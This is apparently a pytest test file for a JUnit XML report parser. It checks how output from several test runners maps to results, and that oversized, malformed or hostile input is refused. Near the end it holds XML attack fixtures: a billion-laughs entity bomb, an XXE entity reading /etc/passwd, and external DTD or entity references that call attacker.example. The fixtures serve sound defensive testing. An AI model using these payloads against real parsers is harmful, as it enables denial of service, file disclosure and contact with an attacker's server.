"""JUnit XML parsing: real tools' reports map to results; hostile or non-JUnit input is refused."""

from __future__ import annotations

from collections import Counter
from pathlib import Path

import pytest

from chalicelib.domain.statuses import ResultStatus
from chalicelib.errors import MalformedRequest, PayloadTooLarge
from chalicelib.junit import parse_junit
from chalicelib.models import ResultIn

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures" / "junit"


def load(name: str) -> list[ResultIn]:
    return parse_junit((FIXTURES / name).read_bytes())


def by_id(results: list[ResultIn]) -> dict[str, list[ResultIn]]:
    grouped: dict[str, list[ResultIn]] = {}
    for result in results:
        grouped.setdefault(result.test_case_id, []).append(result)
    return grouped


def statuses(results: list[ResultIn]) -> Counter[str]:
    return Counter(result.status.value for result in results)


def suite(body: str, *, root: str = "testsuite") -> bytes:
    return f'<?xml version="1.0" encoding="UTF-8"?><{root} name="s">{body}</{root}>'.encode()


# --- pytest --junitxml -------------------------------------------------------------------------


def test_pytest_report_counts_and_ids() -> None:
    results = load("pytest.xml")
    assert statuses(results) == {"passed": 3, "failed": 2, "skipped": 2}
    ids = [r.test_case_id for r in results]
    assert ids[:2] == ["TC-101", "TC-102"]  # from test_case_id / testCaseId properties
    assert "tests.checkout.test_cart.TestCart::test_total_with_discount[silver-0.1]" in ids
    assert all(r.attempt == 1 for r in results)


def test_pytest_failure_maps_message_trace_and_properties() -> None:
    failed = by_id(load("pytest.xml"))["TC-102"][0]
    assert failed.status is ResultStatus.FAILED
    assert failed.title == "test_total_with_discount[gold-0.2]"
    assert failed.scenario_id == "checkout.cart.discounts"
    assert failed.module == "checkout"
    assert failed.reporter == "alice"  # the testcase overrides the suite's reporter
    assert failed.requirements == ["REQ-1"]  # inherited from the suite
    assert failed.expected == "total is 80.00 after a 20% gold discount"
    assert failed.duration_ms == 52
    assert failed.actual is not None
    assert failed.actual.startswith("AssertionError: assert Decimal('100.00') == Decimal('80.00')")
    assert failed.error is not None
    assert failed.error.message == failed.actual
    assert failed.error.type is None
    assert failed.error.trace is not None
    assert "tests/checkout/test_cart.py:41: AssertionError" in failed.error.trace
    # only http(s) URLs become evidence; the local path is ignored
    assert [(e.name, e.url) for e in failed.evidence] == [
        ("attachment_screenshot", "https://artifacts.example.com/run/1842/cart-total.png"),
        ("evidence_log", "https://artifacts.example.com/run/1842/cart-total.log"),
    ]


def test_pytest_error_is_failed_with_error_fields() -> None:
    result = by_id(load("pytest.xml"))["tests.checkout.test_payment::test_refund_after_capture"][0]
    assert result.status is ResultStatus.FAILED
    assert result.error is not None
    assert result.error.message == (
        'failed on setup with "ConnectionRefusedError: [Errno 111] Connection refused"'
    )
    assert result.error.trace is not None
    assert result.error.trace.startswith("@pytest.fixture")
    assert result.actual == result.error.message


def test_pytest_suite_properties_apply_unless_overridden() -> None:
    results = by_id(load("pytest.xml"))
    first = results["TC-101"][0]
    assert first.reporter == "qa-bot"
    assert first.requirements == ["REQ-7", "REQ-9"]  # comma-separated, overrides the suite's
    assert first.jira_test_key == "SHOP-T101"
    assert first.scenario_id == "TC-101"  # the scenario defaults to the test case
    assert first.module == "general"  # the default module: no property, no rule
    other = results["tests.search.test_query::test_empty_query_returns_top_sellers"][0]
    assert (other.reporter, other.requirements, other.evidence) == ("qa-bot", ["REQ-1"], [])
    assert other.duration_ms == 1234  # 1.2345 s


def test_pytest_skips_and_xfails_are_skipped() -> None:
    results = by_id(load("pytest.xml"))
    for test_id in (
        "tests.checkout.test_payment::test_3ds_challenge",
        "tests.checkout.test_payment::test_currency_rounding",
    ):
        (result,) = results[test_id]
        assert result.status is ResultStatus.SKIPPED
        assert result.error is None and result.actual is None


# --- Maven Surefire ------------------------------------------------------------------------------

SUREFIRE = "com.acme.shop.cart.CartServiceTest::"


def test_surefire_counts() -> None:
    results = load("surefire.xml")
    # 6 testcases + 1 flaky attempt + 2 reruns + 2 flaky attempts
    assert len(results) == 11
    assert statuses(results) == {"passed": 3, "failed": 7, "skipped": 1}
    assert {r.scenario_id for r in results} == {r.test_case_id for r in results}  # one per test
    assert len({r.test_case_id for r in results}) == 6
    assert all(r.reporter is None and r.requirements == [] for r in results)  # JVM props ignored


def test_surefire_flaky_failure_then_pass_yields_two_attempts() -> None:
    attempts = by_id(load("surefire.xml"))[SUREFIRE + "appliesVoucherOnce"]
    assert [(r.attempt, r.status) for r in attempts] == [
        (1, ResultStatus.FAILED),
        (2, ResultStatus.PASSED),
    ]
    first = attempts[0]
    assert first.error is not None
    assert first.error.type == "org.opentest4j.AssertionFailedError"
    assert first.error.message == "expected: <90.00> but was: <80.00>"
    assert first.error.trace is not None
    assert "CartServiceTest.java:58" in first.error.trace  # from <stackTrace>
    assert attempts[1].error is None and attempts[1].duration_ms == 1204


def test_surefire_two_flaky_attempts() -> None:
    attempts = by_id(load("surefire.xml"))[SUREFIRE + "emptiesCartOnCheckout"]
    assert [(r.attempt, r.status.value) for r in attempts] == [
        (1, "failed"),
        (2, "failed"),
        (3, "passed"),
    ]
    assert attempts[0].error is not None and attempts[0].error.type == "java.net.SocketException"


def test_surefire_rerun_failures_are_attempts_in_run_order() -> None:
    attempts = by_id(load("surefire.xml"))[SUREFIRE + "reservesStockConcurrently"]
    assert [r.attempt for r in attempts] == [1, 2, 3]
    assert all(r.status is ResultStatus.FAILED for r in attempts)
    # Surefire writes the first run as <failure> and later runs as <rerunFailure>
    assert [r.actual for r in attempts] == [
        "stock went negative: -1",
        "stock went negative: -2",
        "stock went negative: -3",
    ]
    assert all(r.error and r.error.type == "java.lang.IllegalStateException" for r in attempts)
    assert attempts[-1].duration_ms == 2317


def test_surefire_error_and_skip() -> None:
    results = by_id(load("surefire.xml"))
    (error,) = results[SUREFIRE + "loadsPricesFromCatalog"]
    assert error.status is ResultStatus.FAILED
    assert error.error is not None
    assert error.error.type == "java.lang.NullPointerException"
    assert error.error.message is not None and error.error.message.startswith("Cannot invoke")
    assert error.error.trace is not None and "CartService.java:120" in error.error.trace
    (skipped,) = results[SUREFIRE + "exportsCartAsCsv"]
    assert skipped.status is ResultStatus.SKIPPED and skipped.duration_ms == 0


# --- jest-junit, go-junit-report, nested suites, empty -----------------------------------------


def test_jest_failure_without_message_uses_first_line_of_text() -> None:
    results = load("jest.xml")
    assert statuses(results) == {"passed": 3, "failed": 1, "skipped": 1}
    # jest-junit repeats the describe block in the name: the classname is not prefixed twice
    failed = by_id(results)["Checkout page shows the total with tax"][0]
    assert failed.scenario_id == "Checkout page shows the total with tax"
    assert failed.title == "Checkout page shows the total with tax"
    assert failed.actual == "Error: expect(received).toHaveTextContent(expected)"
    assert failed.error is not None and failed.error.trace is not None
    assert "Checkout.test.tsx:48:36" in failed.error.trace
    assert failed.duration_ms == 877


def test_go_junit_report() -> None:
    results = load("go-junit-report.xml")
    assert statuses(results) == {"passed": 2, "failed": 2, "skipped": 1}
    grouped = by_id(results)
    failed = grouped["github.com/acme/shop/cart::TestTotal/with_discount"][0]
    assert failed.scenario_id == "github.com/acme/shop/cart::TestTotal/with_discount"
    assert failed.actual == "Failed"
    assert failed.error is not None and failed.error.trace == (
        "    cart_test.go:42: Total() = 100, want 80"
    )
    build = grouped["github.com/acme/shop/payment::[build failed]"][0]
    assert build.status is ResultStatus.FAILED
    assert build.error is not None and build.error.message == "Build error"
    assert all(r.reporter is None for r in results)  # go.version is not mapped to anything


def test_nested_suites_are_walked_and_inherit_properties() -> None:
    results = load("nested.xml")
    assert statuses(results) == {"passed": 3, "failed": 1, "skipped": 1}
    grouped = by_id(results)
    assert all(r.module == "pricing" for r in results)  # from the outermost suite
    jpy = grouped['Tests.Unit.PriceCalculatorTest::testCurrencies with data set "jpy"'][0]
    assert jpy.status is ResultStatus.SKIPPED
    assert jpy.reporter == "currency-team"  # the innermost suite overrides
    assert grouped["Tests.Unit.PriceCalculatorTest::testNetPrice"][0].reporter == "php-ci"
    failed = grouped["Tests.Unit.PriceCalculatorTest::testVatIsRoundedHalfUp"][0]
    assert failed.error is not None
    assert failed.error.type == "PHPUnit\\Framework\\ExpectationFailedException"
    # PHPUnit writes no message attribute and starts the text with "Class::test"
    assert failed.actual == "Failed asserting that 19.99 matches expected 20.0."
    # an empty classname: the suite name stands in for it
    (stock,) = grouped["Tests\\Unit\\StockTest::testReserve"]
    assert stock.scenario_id == stock.test_case_id


def test_empty_testsuite_yields_no_results() -> None:
    assert load("empty.xml") == []
    assert parse_junit(b"<testsuites/>") == []


# --- mapping details ---------------------------------------------------------------------------


def test_property_name_variants_and_text_values() -> None:
    body = suite(
        '<testcase classname="a.B" name="t"><properties>'
        '<property name="testcase_id" value="TC-9"/>'
        '<property name="scenarioId" value="pay.refunds"/>'
        '<property name="jiraTestKey" value="PAY-T9"/>'
        '<property name="requirements" value="R-1,R-2, R-1,,"/>'
        '<property name="reporter">bob</property>'
        '<property name="attachment" value="https://x.example/a/shot.png?sig=1"/>'
        "</properties></testcase>"
    )
    (result,) = parse_junit(body)
    assert result.test_case_id == "TC-9"
    assert result.scenario_id == "pay.refunds"
    assert result.module_name == "general"  # declared scenario, no module: the default module
    assert result.jira_test_key == "PAY-T9"
    assert result.requirements == ["R-1", "R-2"]
    assert result.reporter == "bob"
    assert [(e.name, e.url) for e in result.evidence] == [
        ("shot.png", "https://x.example/a/shot.png?sig=1")
    ]


def test_suite_name_stands_in_for_a_missing_classname() -> None:
    (result,) = parse_junit(b'<testsuite name="Smoke"><testcase name="login works"/></testsuite>')
    assert result.test_case_id == "Smoke::login works"
    assert result.scenario_id == "Smoke::login works"
    assert result.duration_ms is None
    assert result.status is ResultStatus.PASSED


def test_failure_takes_precedence_over_skipped() -> None:
    body = suite('<testcase classname="c" name="t"><skipped/><failure message="m"/></testcase>')
    (result,) = parse_junit(body)
    assert result.status is ResultStatus.FAILED and result.actual == "m"


def test_rerun_that_passes_in_the_end() -> None:
    body = suite(
        '<testcase classname="c" name="t" time="0.5">'
        '<rerunFailure message="first" type="E"><stackTrace>E: first</stackTrace></rerunFailure>'
        '<rerunError message="second" type="X"/>'
        "</testcase>"
    )
    results = parse_junit(body)
    assert [(r.attempt, r.status.value, r.actual) for r in results] == [
        (1, "failed", "first"),
        (2, "failed", "second"),
        (3, "passed", None),
    ]
    assert results[0].error is not None and results[0].error.trace == "E: first"


def test_bad_times_are_ignored() -> None:
    body = suite(
        '<testcase name="a" time="NaN"/><testcase name="b" time="abc"/>'
        '<testcase name="c" time="-1"/><testcase name="d" time="1,234.5"/>'
    )
    assert [r.duration_ms for r in parse_junit(body)] == [None, None, None, 1_234_500]


def test_long_values_are_clipped_to_the_model_limits() -> None:
    name = "test_" + "x" * 400
    message = "m" * 20_000
    trace = "HEAD\n" + "t" * 100_000 + "\nTAIL"
    body = suite(
        f'<testcase classname="pkg.Cls" name="{name}">'
        f'<properties><property name="reporter" value="{"r" * 300}"/></properties>'
        f'<failure message="{message}" type="{"T" * 300}">{trace}</failure></testcase>'
        f'<testcase classname="pkg.Cls" name="{name}y"/>'
    )
    first, second = parse_junit(body)
    assert len(first.test_case_id) <= 200 and len(first.title or "") <= 200
    assert first.test_case_id != second.test_case_id  # clipped ids stay distinct
    assert first.test_case_id == parse_junit(body)[0].test_case_id  # and stable
    assert len(first.reporter or "") <= 200
    assert first.error is not None and first.error.trace is not None
    assert len(first.error.trace) <= 65_536
    assert first.error.trace.startswith("HEAD") and first.error.trace.endswith("TAIL")
    assert len(first.actual or "") <= 10_000 and len(first.error.message or "") <= 10_000
    assert len(first.error.type or "") <= 200


def test_testcases_directly_under_testsuites_root() -> None:
    body = b'<testsuites name="karma"><testcase classname="App" name="boots"/></testsuites>'
    (result,) = parse_junit(body)
    assert result.test_case_id == "App::boots"


def test_encodings_and_bom_are_accepted() -> None:
    xml = '<?xml version="1.0" encoding="{}"?><testsuite><testcase classname="c" name="café"/>'
    xml += "</testsuite>"
    for encoding in ("UTF-16", "ISO-8859-1"):
        (result,) = parse_junit(xml.format(encoding).encode(encoding.lower()))
        assert result.title == "café"
    (result,) = parse_junit(b"\xef\xbb\xbf\n" + xml.format("UTF-8").encode())
    assert result.title == "café"


def test_ten_thousand_testcases() -> None:
    cases = "".join(
        f'<testcase classname="pkg.T{i // 100}" name="test_{i}" time="0.01">'
        + ('<failure message="boom">trace</failure>' if i % 10 == 0 else "")
        + "</testcase>"
        for i in range(10_000)
    )
    results = parse_junit(suite(cases, root="testsuites").replace(b'name="s">', b">", 1))
    assert len(results) == 10_000
    assert statuses(results) == {"passed": 9_000, "failed": 1_000}


def nested_suites(depth: int) -> bytes:
    opening, closing = '<testsuite name="s">' * depth, "</testsuite>" * depth
    return f'<testsuites>{opening}<testcase name="t"/>{closing}</testsuites>'.encode()


def test_deep_but_plausible_nesting_is_walked() -> None:
    (result,) = parse_junit(nested_suites(100))
    assert result.scenario_id == "s::t"


def test_absurd_nesting_is_refused() -> None:
    with pytest.raises(MalformedRequest) as caught:
        parse_junit(nested_suites(50_000))
    assert caught.value.details == [
        {"field": "body", "problem": "nests <testsuite> elements more than 100 deep"}
    ]


# --- refused input -----------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<testsuite name="s"><testcase classname="c" name="t"><failure message="&lol9;"/></testcase>
</testsuite>"""

XXE = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE testsuite [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<testsuite name="s"><testcase classname="c" name="t"><failure message="&xxe;">&xxe;</failure>
</testcase></testsuite>"""

XXE_PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE testsuite [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<testsuite name="s"/>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE testsuites SYSTEM "http://attacker.example/junit.dtd">
<testsuites><testsuite name="s"><testcase classname="c" name="t"/></testsuite></testsuites>"""

HARMLESS_DOCTYPE = b"""<?xml version="1.0"?>
<!DOCTYPE testsuite>
<testsuite name="s"><testcase classname="c" name="t"/></testsuite>"""


@pytest.mark.parametrize(
    "body",
    [BILLION_LAUGHS, XXE, XXE_PARAMETER_ENTITY, EXTERNAL_DTD, HARMLESS_DOCTYPE],
    ids=["billion-laughs", "xxe-file", "xxe-parameter-entity", "external-dtd", "bare-doctype"],
)
def test_dtds_and_entities_are_refused(body: bytes) -> None:
    with pytest.raises(MalformedRequest) as caught:
        parse_junit(body)
    error = caught.value
    assert error.status == 400
    assert error.details == [{"field": "body", "problem": "must not contain a DOCTYPE or DTD"}]
    rendered = repr(error.to_body())
    assert "root:" not in rendered and "/etc/passwd" not in rendered
    assert "attacker.example" not in rendered


def test_xxe_contents_never_reach_results() -> None:
    # Even an undeclared entity reference (no DTD) is a parse error, not an empty string.
    body = suite('<testcase classname="c" name="t"><failure message="&xxe;"/></testcase>')
    with pytest.raises(MalformedRequest) as caught:
        parse_junit(body)
    assert "undefined entity" in caught.value.details[0]["problem"]


@pytest.mark.parametrize(
    ("body", "problem"),
    [
        (b"", "is empty"),
        (b"  \r\n\t ", "is empty"),
        (b"all 12 tests passed\n", "is not well-formed XML"),
        (b'{"run": {"id": "r1"}, "results": []}', "is not well-formed XML"),
        (b'<testsuites><testsuite name="s"><testcase name="t">', "is not well-formed XML"),
        (b"<testsuite><testcase name='\xff'/></testsuite>", "is not well-formed XML"),
        (b'<?xml version="1.0" encoding="klingon"?><testsuite/>', "is not well-formed XML"),
        (b"<html><body>502 Bad Gateway</body></html>", "has root element <html>"),
        (b'<j:testsuites xmlns:j="urn:x"/>', "has root element <{urn:x}testsuites>"),
    ],
    ids=["empty", "blank", "text", "json", "truncated", "bad-utf8", "bad-encoding", "html", "ns"],
)
def test_non_junit_bodies_are_malformed(body: bytes, problem: str) -> None:
    with pytest.raises(MalformedRequest) as caught:
        parse_junit(body)
    error = caught.value
    assert error.code == "malformed_request"
    assert error.message.startswith("the body is not a valid JUnit XML report")
    assert len(error.details) == 1 and error.details[0]["field"] == "body"
    assert error.details[0]["problem"].startswith(problem)


def test_body_over_the_limit_is_too_large() -> None:
    body = (FIXTURES / "pytest.xml").read_bytes()
    with pytest.raises(PayloadTooLarge) as caught:
        parse_junit(body, max_bytes=len(body) - 1)
    assert caught.value.status == 413
    assert caught.value.details == [
        {"field": "body", "problem": f"must be at most {len(body) - 1} bytes"}
    ]
    assert len(parse_junit(body, max_bytes=len(body))) == 7


def test_default_limit_is_the_setting() -> None:
    from chalicelib import settings

    body = b"<testsuite>" + b" " * settings.MAX_JUNIT_BODY_BYTES + b"</testsuite>"
    with pytest.raises(PayloadTooLarge):
        parse_junit(body)


def test_every_suite_keeps_its_properties_when_a_freed_suite_s_id_is_reused(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A suite is dropped once read; CPython may give a later suite the freed one's id(), and
    its properties (the `scenario`) were once skipped for it, each of its testcases becoming a
    scenario of its own (a large upload opened 10 drafts for one scenario). Here every element
    gets the same id, as address reuse would, deterministically."""
    import builtins
    from xml.etree.ElementTree import Element

    from chalicelib import junit

    monkeypatch.setattr(
        junit,
        "id",
        lambda obj: 1 if isinstance(obj, Element) else builtins.id(obj),
        raising=False,
    )
    suites = "".join(
        f'<testsuite name="suite{s}"><properties>'
        f'<property name="scenario" value="checkout.s{s}"/></properties>'
        f'<testcase classname="c{s}" name="test_a"><failure message="x"/></testcase>'
        f'<testcase classname="c{s}" name="test_b"/></testsuite>'
        for s in range(3)
    )
    results = parse_junit(f"<testsuites>{suites}</testsuites>".encode())
    assert [r.scenario_id for r in results] == [f"checkout.s{s}" for s in range(3) for _ in "ab"]
